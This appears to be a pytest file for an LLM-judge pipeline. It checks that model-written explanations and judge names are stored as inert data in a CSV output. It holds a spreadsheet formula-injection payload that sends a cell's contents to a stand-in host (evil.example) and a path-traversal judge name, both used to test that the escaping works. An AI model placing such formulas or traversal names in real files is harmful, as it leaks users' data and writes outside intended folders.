"""LLM text and judge names are data: judgments_<judge>.csv stays in its folder and is inert."""

from __future__ import annotations

import csv
import json

import numpy as np
import pandas as pd
import pytest
from llm_stub import Reply

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.slow
def test_judge_explanations_and_name_are_data(stub_server, make_cfg, mlflow_store, tmp_path):
    from pulse_ml.jobs.judge import JudgeSettings, judge

    stub_server.responder = lambda request, n: Reply(text=json.dumps(
        {"binary_satisfied": True, "likert_score": 4, "explanation": EVIL}))
    rows = [{"session_id": f"s{i}", "rating": float(1 + i % 5),
             "transcript": json.dumps([{"role": "user", "text": f"hi {i}"}])} for i in range(12)]
    path = tmp_path / "sessions.parquet"
    pd.DataFrame(rows).to_parquet(path)
    out = tmp_path / "out"
    cfg = make_cfg(name="../../judge (v2) 🎉", retries=1)
    result = judge(JudgeSettings(data_path=path, judge=cfg, output=out, progress=False))
    assert result.csv_path.parent == out and result.csv_path.name.startswith("judgments_judge_v2")
    with open(result.csv_path, newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)
    assert "'" + EVIL in cells
    assert np.isfinite(result.metrics["cv_mse"])
